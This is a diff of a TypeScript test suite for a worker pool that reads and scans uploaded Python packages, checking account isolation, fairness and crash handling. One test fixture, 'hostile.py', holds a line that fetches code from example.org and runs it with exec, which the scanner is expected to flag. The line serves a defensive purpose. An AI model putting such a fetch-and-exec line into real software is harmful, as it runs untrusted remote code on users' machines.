@@ -1,16 +1,16 @@
 import assert from 'node:assert/strict';
-import { hash } from 'node:crypto';
 import { writeFile } from 'node:fs/promises';
 import { join } from 'node:path';
 import { type TestContext, suite, test } from 'node:test';
 import { fileURLToPath } from 'node:url';
-import { DEFAULT_LIMITS } from '@patchbay/inspect';
-import { TooHeavyError } from '../../src/packages/package-reader.ts';
+import { BusyError } from '../../src/limits/semaphore.ts';
 import { ReaderPool } from '../../src/packages/reader-pool.ts';
+import { type ReadingRequest, TooHeavyError } from '../../src/packages/reading.ts';
 import { zip } from '../support/build.ts';
 import { killReaders } from '../support/kill-reader.ts';
 import { temporaryFolder } from '../support/temporary-folder.ts';
 import { until } from '../support/until.ts';
+import { plenty, requestOf } from './support.ts';
 
 const open = async (
   t: TestContext,
@@ -25,16 +25,14 @@ const open = async (
   const path = join(await temporaryFolder(t), 'package.zip');
   const bytes = await zip({ '__init__.py': '' });
   await writeFile(path, bytes);
-  const inspect = (publisherId: string, nodeId = 'node', network = publisherId) =>
-    readers.inspect({
-      path,
-      network,
-      publisherId,
-      limits: DEFAULT_LIMITS,
-      published: { nodeId, version: '1.0.0' },
-      looseVersions: false,
-    });
-  return { readers, path, bytes, inspect };
+  const read = (account: string, nodeId = 'node', others: Partial<ReadingRequest> = {}) =>
+    readers.read(requestOf(path, bytes, { account, nodeId, ...others }));
+  /** Which reading of its process this one was; of `counts-readings.ts`. */
+  const count = async (...request: Parameters<typeof read>): Promise<number | undefined> => {
+    const reading = await read(...request);
+    return reading?.fault === undefined ? reading?.problems[0]?.line : undefined;
+  };
+  return { readers, path, bytes, read, count };
 };
 
 suite('readers', () => {
@@ -48,9 +46,10 @@ suite('readers', () => {
         const source = `class Node:\n    pass\n\n\nNODE_CLASS_MAPPINGS = {"Node ${index}": Node}\n`;
         const bytes = await zip({ '__init__.py': source, 'README.md': `*Node ${index}*` });
         await writeFile(path, bytes);
-        const extraction = await readers.extract(path, hash('sha256', bytes));
-        const names = extraction?.appNodes.map(({ app_node_name }) => app_node_name);
-        return [...(names ?? []), ...(extraction?.readme?.parts ?? []).map(({ tag, text }) => tag ?? text)];
+        const reading = await readers.read(requestOf(path, bytes, { account: `account-${index % 3}` }));
+        assert.ok(reading !== undefined && reading.fault === undefined);
+        const names = reading.appNodes.map(({ app_node_name }) => app_node_name);
+        return [...names, ...(reading.readme?.parts ?? []).map(({ tag, text }) => tag ?? text)];
       }),
     );
     assert.deepEqual(
@@ -59,43 +58,60 @@ suite('readers', () => {
     );
   });
 
-  test('a sound package is inspected, checked and extracted by one process', async (t) => {
-    const { readers, path, bytes, inspect } = await open(t, 'counts-tasks.ts');
-    const sha256 = hash('sha256', bytes);
-    await inspect('ada');
-    assert.equal((await readers.check(path, sha256))?.findings[0]?.line, 2);
-    assert.equal((await readers.extract(path, sha256))?.problems[0]?.line, 3);
-    assert.equal((await readers.extract(path, sha256))?.problems[0]?.line, 1, 'the process is ended');
+  test('a process reads many packages of one account, and none of another', async (t) => {
+    const { readers, count } = await open(t, 'counts-readings.ts');
+    assert.deepEqual([await count('ada'), await count('ada'), await count('ada')], [1, 2, 3]);
+    assert.equal(await count('bob'), 1);
+    assert.deepEqual([await count('ada'), await count('bob')], [4, 2]);
+    const crowd = Array.from({ length: readers.processesMax }, (_, index) => `account-${index}`);
+    for (const account of crowd) assert.equal(await count(account), 1);
+    assert.equal(readers.load.processes, readers.processesMax, 'idle processes of others are ended');
+    assert.equal(await count('ada'), 1);
   });
 
-  test('a package whose publisher waits is inspected while others are read', async (t) => {
-    const { readers, path, bytes, inspect } = await open(t, 'never-reads.ts');
-    const reading = Array.from({ length: readers.processesMax * 2 }, () =>
-      readers.extract(path, hash('sha256', bytes)).catch(() => 'never read'),
+  test('a package read at the low priority has a process of its own, and leaves one to others', async (t) => {
+    const { readers, read, count } = await open(t, 'never-reads.ts');
+    const low = { budget: { ...plenty, isLow: true } };
+    const heavy = Array.from({ length: readers.processesMax * 2 }, () =>
+      read('mallory', 'never', low).catch(() => 'never read'),
     );
-    assert.equal(await inspect('ada'), undefined);
-    readers.close();
-    await Promise.all(reading);
-  });
-
-  test('the heavy packages of one publisher leave room for another', async (t) => {
-    const { readers, inspect } = await open(t, 'never-reads.ts');
-    const heavy = Array.from({ length: readers.processesMax * 4 }, () =>
-      inspect('mallory', 'never').catch(() => 'never inspected'),
-    );
-    assert.equal(await inspect('ada'), undefined);
+    assert.equal(await count('ada'), undefined);
     readers.close();
     await Promise.all(heavy);
   });
 
-  test('the publishers of one network take turns with those of another as one', async (t) => {
-    const { readers, inspect } = await open(t, 'counts-tasks.ts');
+  test('a process ends after an error, after its number of packages, and when it is idle', async (t) => {
+    const { readers, count } = await open(t, 'counts-readings.ts', { packagesOfProcess: 2, idleMs: 500 });
+    assert.deepEqual([await count('ada'), await count('ada'), await count('ada')], [1, 2, 1]);
+    await assert.rejects(count('ada', 'error'), /it failed/);
+    assert.equal(await count('ada'), 1);
+    await until(() => readers.load.processes === 0);
+  });
+
+  test('what a package leaves behind in its process reaches none of another account', async (t) => {
+    const { count } = await open(t, 'leaves-behind.ts');
+    assert.equal(await count('mallory', 'poison'), 1);
+    assert.equal(await count('mallory'), 666, 'its own account may read what it left');
+    assert.equal(await count('ada'), 1);
+  });
+
+  test('one account that sends without a pause does not keep the packages of another waiting', async (t) => {
+    const { readers, read } = await open(t, 'counts-readings.ts');
     const ended: string[] = [];
-    const end = (publisherId: string, network: string) =>
-      inspect(publisherId, 'node', network).then(() => ended.push(publisherId));
-    const crowd = Array.from({ length: readers.processesMax * 6 }, (_, index) => end(`m${index}`, 'mallory'));
-    await Promise.all([...crowd, end('ada', 'ada')]);
-    assert.ok(ended.indexOf('ada') < ended.length / 2, ended.join());
+    const end = (account: string) => read(account).then(() => ended.push(account));
+    const crowd = Array.from({ length: readers.processesMax * 40 }, () => end('mallory'));
+    await Promise.all([...crowd, end('ada')]);
+    assert.equal(ended.length, crowd.length + 1);
+  });
+
+  test('beyond a number of waiting packages, others are rejected at once', async (t) => {
+    const { readers, read } = await open(t, 'never-reads.ts');
+    const all = Array.from({ length: 200 }, () => read('mallory', 'never').catch((error: unknown) => error));
+    await assert.rejects(read('ada'), BusyError);
+    assert.ok(readers.load.waiting >= 100, 'hundreds wait');
+    readers.close();
+    const outcomes = await Promise.all(all);
+    assert.ok(outcomes.some((error) => error instanceof BusyError));
   });
 
   test('a package of large files is read to its end', async (t) => {
@@ -106,10 +122,13 @@ suite('readers', () => {
     const hostile = `${large}import requests\nexec(requests.get("https://example.org").text)\n`;
     const bytes = await zip({ 'large.py': large, 'hostile.py': hostile, 'data.bin': large.repeat(4) });
     await writeFile(path, bytes);
-    const verdict = await readers.check(path, hash('sha256', bytes));
-    assert.equal(verdict?.outcome, 'found');
+    const reading = await readers.read(requestOf(path, bytes));
+    assert.ok(reading !== undefined && reading.fault === undefined);
+    assert.equal(reading.verdict.outcome, 'found');
     assert.deepEqual(
-      verdict.findings.filter(({ severity }) => severity === 'error').map(({ file, line }) => [file, line]),
+      reading.verdict.findings
+        .filter(({ severity }) => severity === 'error')
+        .map(({ file, line }) => [file, line]),
       [['hostile.py', 40_002]],
     );
   });
@@ -118,73 +137,28 @@ suite('readers', () => {
     'a package is not to blame for the first process that is killed while it is read',
     { skip: process.platform !== 'linux' },
     async (t) => {
-      const { inspect } = await open(t, '../../../src/packages/serve-readings.ts');
-      const inspected = inspect('publisher');
+      const { read } = await open(t, '../../../src/packages/serve-readings.ts');
+      const reading = read('ada');
       await until(() => killReaders(process.pid));
-      assert.equal(await inspected, undefined);
+      assert.equal((await reading)?.fault, undefined);
     },
   );
 
   test('a package that ends each process that reads it is too heavy', async (t) => {
-    const { readers, inspect } = await open(t, 'killed.ts');
-    await assert.rejects(inspect('publisher'), TooHeavyError);
+    const { readers, read } = await open(t, 'killed.ts');
+    await assert.rejects(read('ada'), TooHeavyError);
     assert.equal(readers.load.killed, 2);
   });
 
-  test('a package is not to blame for one process that is killed after another took too long', async (t) => {
-    const low = { processorMs: 60_000, waitMs: 540_000 };
-    const allowances = { equal: { processorMs: 60_000, waitMs: 500 }, low, spare: low };
-    const { readers, inspect } = await open(t, 'slow-then-killed.ts', { allowances });
-    await assert.rejects(inspect('publisher'), TooHeavyError);
-    // The slow one, the one that was killed, and one more.
-    assert.equal(readers.load.killed, 3);
-  });
-
-  test('a package for which the first allowance is too little is read all the same', async (t) => {
-    // No process has begun after a millisecond.
-    const tooLittle = { processorMs: 1, waitMs: 1 };
-    const readers = new ReaderPool({
-      allowances: { equal: tooLittle, low: { processorMs: 60_000, waitMs: 540_000 }, spare: tooLittle },
-    });
-    t.after(() => readers.close());
-    const path = join(await temporaryFolder(t), 'package.zip');
-    const bytes = await zip({ '__init__.py': '' });
-    await writeFile(path, bytes);
-    assert.equal((await readers.check(path, hash('sha256', bytes)))?.outcome, 'passed');
-    const inspection = {
-      path,
-      limits: DEFAULT_LIMITS,
-      looseVersions: false,
-      publisherId: 'ada',
-      network: '',
-    };
-    const published = { nodeId: 'node', version: '1.0.0' };
-    assert.equal(await readers.inspect({ ...inspection, published }), undefined);
-  });
-
-  test('a task that fails fails alone, with the code of its error', async (t) => {
+  test('a reading that fails fails alone, with the code of its error', async (t) => {
     const readers = new ReaderPool();
     t.after(() => readers.close());
     const path = join(await temporaryFolder(t), 'package.zip');
     const bytes = await zip({ '__init__.py': '' });
-    await assert.rejects(readers.check(path, hash('sha256', bytes)), {
-      code: 'ENOENT',
-      message: /no such file/,
-    });
+    await assert.rejects(readers.read(requestOf(path, bytes)), { code: 'ENOENT', message: /no such file/ });
     await writeFile(path, bytes);
-    assert.equal((await readers.check(path, hash('sha256', bytes)))?.outcome, 'passed');
-    assert.equal(await readers.check(path, hash('sha256', 'another package')), undefined);
-    const published = { nodeId: 'node', version: '1.0.0' };
-    assert.equal(
-      await readers.inspect({
-        path,
-        limits: DEFAULT_LIMITS,
-        published,
-        looseVersions: false,
-        publisherId: 'ada',
-        network: '',
-      }),
-      undefined,
-    );
+    assert.ok(await readers.read(requestOf(path, bytes)));
+    assert.equal(await readers.read(requestOf(path, 'another package')), undefined);
+    assert.ok(await readers.read(requestOf(path, bytes)));
   });
 });
